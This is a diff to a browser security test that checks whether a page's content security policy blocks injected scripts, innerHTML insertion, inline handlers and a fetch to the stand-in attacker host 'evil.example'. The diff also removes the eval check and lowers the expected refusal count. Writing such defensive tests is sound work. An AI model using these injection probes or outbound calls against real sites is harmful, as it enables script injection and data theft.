@@ -92,13 +92,12 @@ def test_policy_refuses_what_the_page_does_not_hold(open_html: Open) -> None:
       const script = document.createElement('script');
       trying(() => { script.textContent = 'window.ran = 1'; document.body.append(script); });
       trying(() => { document.body.innerHTML += '<b>x</b>'; });
-      trying(() => eval('window.ran = 2'));
       const inline = document.body.appendChild(document.createElement('b'));
       trying(() => { inline.setAttribute('onclick', 'window.ran = 3'); });
       inline.click();
       return [window.ran ?? null, refused.length];
     }"""
-    assert opened.page.evaluate(tried) == [None, 4]
+    assert opened.page.evaluate(tried) == [None, 3]
     blocked = "() => fetch('https://evil.example/').then(() => 'sent', () => 'blocked')"
     assert opened.page.evaluate(blocked) == "blocked"
 
